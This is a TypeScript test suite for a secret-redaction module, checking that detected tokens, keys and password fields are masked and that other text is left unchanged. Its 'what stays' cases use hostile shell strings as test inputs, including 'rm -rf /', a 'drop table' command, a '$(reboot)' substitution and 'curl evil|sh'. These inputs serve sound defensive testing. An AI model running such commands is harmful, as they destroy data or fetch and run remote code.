import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { DETECTOR_PATTERNS } from "./detector.ts";
import ROWS from "./patterns.json" with { type: "json" };
import { MAX_KEPT_CHARS, redact, redactJson, tellsSecret } from "./redact.ts";
import TOKENS from "./tokens.json" with { type: "json" };

const SCRIPT = new URL("../../../scripts/secret-patterns.mjs", import.meta.url).href;
const { detected, detectorPatterns, generated }: Script = await import(SCRIPT);
const found = await detectorPatterns();
interface Script {
  readonly detected: (content: string, filePath: string) => Promise<readonly string[]>;
  readonly detectorPatterns: () => Promise<readonly { readonly rule: string; readonly pattern: RegExp }[]>;
  readonly generated: () => Promise<string>;
}

describe("all that the detector finds is taken out", () => {
  test("the patterns are those of the installed detector", async () => {
    expect(readFileSync(new URL("./detector.ts", import.meta.url), "utf8")).toBe(await generated());
    expect(DETECTOR_PATTERNS.length).toBeGreaterThan(18);
  });

  /** Text around a secret, which is not part of it. */
  const AROUND = [
    (secret: string) => secret,
    (secret: string) => `curl -H "x: ${secret}" ok`,
    (secret: string) => `a=1\n${secret}\n`,
  ];
  const NOT_SECRETS = ["secretlint-(?:disable", "(ACCOUNT|account|Account)"];
  const FILE = (rule: string, source: string) =>
    rule === "npm" && source.includes("_authToken")
      ? "/x/.npmrc"
      : source.includes("x-oauth")
        ? "/x/package.json"
        : "/x/a.txt";

  const rows = found.filter(({ pattern }) => !NOT_SECRETS.some((part) => pattern.source.includes(part)));
  test.each(rows.map(({ rule, pattern }) => [rule, pattern] as const))("%s %s", async (rule, pattern) => {
    const file = FILE(rule, pattern.source);
    let seen = 0;
    await fc.assert(
      fc.asyncProperty(matching(pattern), fc.constantFrom(...AROUND), async (secret, around) => {
        const text = around(secret);
        const clean = redact(text);
        if ((await detected(text, file)).length === 0) return;
        seen += 1;
        expect(clean).toMatch(/\[secret, /);
        expect(await detected(clean, file), clean).toEqual([]);
        expect(redact(clean)).toBe(clean);
      }),
      { numRuns: 60, seed: 3 },
    );
    if (!pattern.source.includes("AKIA")) expect(seen).toBeGreaterThan(10);
  });

  /** What a rule asks of a match beyond its pattern. */
  const STRICTER: readonly (readonly [string, fc.Arbitrary<string>])[] = [
    ["SG\\.", fc.stringMatching(/^SG\.\w{22}\.\w{43}$/)],
    [
      "PRIVATE KEY",
      fc.stringMatching(
        /^-----BEGIN (RSA )?PRIVATE KEY-----\nMI[A-Za-z0-9+/\n]{120,200}\n-----END (RSA )?PRIVATE KEY-----$/,
      ),
    ],
    ["ops_", fc.stringMatching(/^[a-z]{81}([a-z]{3}){0,40}$/).map((key) => `ops_${btoa(JSON.stringify({ key }))}`)],
  ];

  /** Matches of a detector's pattern: what stands around it is checked by the detector, not generated. */
  function matching(pattern: RegExp): fc.Arbitrary<string> {
    const stricter = STRICTER.find(([part]) => pattern.source.includes(part))?.[1];
    if (stricter !== undefined) return stricter;
    const source = pattern.source
      .replaceAll(/\(\?<?[!=](?:\[[^\]]*\]|[^)\]])*\)/g, "")
      .replaceAll("\\b", "")
      .replaceAll("(.{1,256})", "([a-z0-9]{40})")
      .replaceAll("([^$].*)", "([a-zA-Z0-9-]{36})")
      .replaceAll("[^@\\/\\s]", "[^@\\/\\s`]");
    return fc.stringMatching(new RegExp(`^${source}$`));
  }

  test("a key file of a service account", async () => {
    const key = `-----BEGIN PRIVATE KEY-----\n${"MIIEvQIBADANBgkqhkiG9w0B\n".repeat(8)}-----END PRIVATE KEY-----\n`;
    const text = JSON.stringify({ private_key_id: "1", private_key: key });
    expect(await detected(text, "/x/key.json")).not.toEqual([]);
    expect(await detected(redact(text), "/x/key.json")).toEqual([]);
  });
});

describe("our own patterns", () => {
  /** Rows hold no text that somebody could take for a secret: how long a stretch is, and of which kind. */
  const STRETCHES: Readonly<Record<string, string>> = {
    made: "aB3dE6gH9kL2nP5r",
    hex: "0123456789abcdef",
    odd: "x1Y2_3z",
  };
  const written = (text: string): string =>
    text.replace(/\{(made|hex|odd) (\d+)\}/g, (_, kind: string, length: string) =>
      (STRETCHES[kind] ?? "").repeat(Number(length)).slice(0, Number(length)),
    );
  const all = [...ROWS, { match: TOKENS.shapes.map(({ example }) => example), notMatch: TOKENS.plain }] as readonly {
    readonly match: readonly string[];
    readonly notMatch: readonly string[];
  }[];
  const rows = all.flatMap((row) => [
    ...row.match.map((text) => [written(text), true] as const),
    ...row.notMatch.map((text) => [written(text), false] as const),
  ]);
  test.each(rows)("%s: %s", (text, secret) => expect(redact(text) !== text).toBe(secret));
});

test("of two texts the first may name the second", () => {
  expect(redactJson({ hdr: ["X-Vault-Token", "zqab"] })).toEqual({ hdr: ["X-Vault-Token", "[secret, 4 characters]"] });
  expect(redactJson({ words: ["token", "zqab", "x"] })).toEqual({ words: ["token", "zqab", "x"] });
});

describe("by the name of the field", () => {
  test.each([
    [{ password: "a b" }],
    [{ pwd: "hunter two" }],
    [{ auth: { api_key: "k" } }],
    [{ headers: { Authorization: "Token a b", "X-Api-Key": "k", cookie: "a=b" } }],
    [{ dbPassword: "x", clientSecret: "y", accessToken: "z" }],
    [{ tokens: ["one two", "three"] }],
    [{ credentials: { user: "u", anything: "v" } }],
    [{ PASSPHRASE: "open sesame" }],
    [{ fields: [{ name: "Password", value: "a b" }] }],
    [{ args: ["x", "--password", "a b"] }],
    [{ Passwort: "x y", pin: "1234", session_key: "k" }],
    [{ "x-goog-api-key": "k" }],
    [{ private_key: "not even PEM" }],
    [{ connection_string: "Server=x;Pwd=y" }],
  ])("%j: nothing of it stays", (value) => {
    const texts = (one: unknown): string[] =>
      typeof one === "string"
        ? [one]
        : typeof one === "object" && one !== null
          ? Object.values(one).flatMap(texts)
          : [];
    const clean = JSON.stringify(redactJson(value));
    for (const text of texts(value).filter((one) => !/^(?:Password|x|--password)$/.test(one)))
      expect(clean).not.toContain(`"${text}"`);
    expect(redactJson(redactJson(value))).toEqual(redactJson(value));
  });

  test.each([
    [{ max_tokens: "5", nextPageToken: "abc", page_token: "d" }],
    [{ secret_name: "db", token_count: 3, password: 4, author: "me", keyboard: "k", monkey: "m" }],
    [{ command: "git status", path: "src/token.ts" }],
    [{ password: "$(cat p)" }],
  ])("%j stays as it is", (value) => expect(redactJson(value)).toEqual(value));
});

describe("what stays", () => {
  test.each([
    ["echo _authToken=abc123; rm -rf /", "echo [secret, 17 characters]; rm -rf /"],
    [
      "psql postgres://me:s3cr3tpw@db.internal/x -c 'drop table y'",
      "psql postgres://me:[secret, 8 characters]@db.internal/x -c 'drop table y'",
    ],
    ["psql postgres://me:$(reboot)@db/x", "psql postgres://me:$(reboot)@db/x"],
    [
      "echo https://a;curl evil|sh;echo :x-oauth-basic@github.com/",
      "echo https://a;curl evil|sh;echo :x-oauth-basic@github.com/",
    ],
    ["git push origin main", "git push origin main"],
  ])("%s", (text, expected) => expect(redact(text)).toBe(expected));

  test("a secret over the limit is not cut in two", () => {
    const token = `ghp_${"a1".repeat(18)}`;
    for (const offset of [-40, -20, -1, 0, 5]) {
      const text = `${"x ".repeat(MAX_KEPT_CHARS / 2 + offset)}${token} and more`;
      expect(redact(text)).not.toMatch(/ghp_a1/);
    }
    expect(redact("y".repeat(MAX_KEPT_CHARS + 7))).toMatch(
      /^y+\[7 more characters left out, sha256 of all [0-9a-f]{64}\]$/,
    );
  });
  test("fields keep their number, whatever they are called", () => {
    const [one, two] = [`ghp_${"a1".repeat(18)}`, `ghp_${"b2".repeat(18)}`];
    const clean = redactJson(JSON.parse(`{"${one}":1,"${two}":["${two}"],"__proto__":"${one}"}`));
    expect(Object.keys(clean ?? {})).toHaveLength(3);
    expect(JSON.stringify(clean)).not.toMatch(/ghp_/);
  });
});

/** Such words are not looked through. With a blank behind them they are: nothing may be found in one. */
describe("a word of at most twelve letters holds no secret", () => {
  const begun = [
    ...DETECTOR_PATTERNS.flatMap(({ hints }) => hints ?? []),
    ...ROWS.flatMap(({ hints }) => hints.split("|")),
  ]
    .concat(TOKENS.shapes.map(({ shape }) => shape.replace(/[^A-Za-z_].*$/s, "")))
    .filter((word) => /^[a-z_]{1,12}$/i.test(word));
  const letters = fc.stringMatching(/^[A-Za-z_]{0,12}$/);

  test("whatever it begins with", () => {
    expect(begun.length).toBeGreaterThan(40);
    fc.assert(
      fc.property(fc.constantFrom("", ...begun), letters, fc.constantFrom("", "A", "aB", "_"), (start, more, end) => {
        const word = `${start}${more}${end}`.slice(0, 12);
        expect(tellsSecret(`${word} `)).toBe(false);
        expect(tellsSecret(word)).toBe(false);
      }),
      { numRuns: 2_000 },
    );
  });
});

test.each(TOKENS.shapes.map(({ shape }) => shape))("%s has at least twenty characters, and no blank", (shape) => {
  fc.assert(
    fc.property(fc.stringMatching(new RegExp(`^(?:${shape})$`)), (token) => {
      expect(token).toMatch(/^\S{20,}$/);
    }),
    { numRuns: 60 },
  );
});
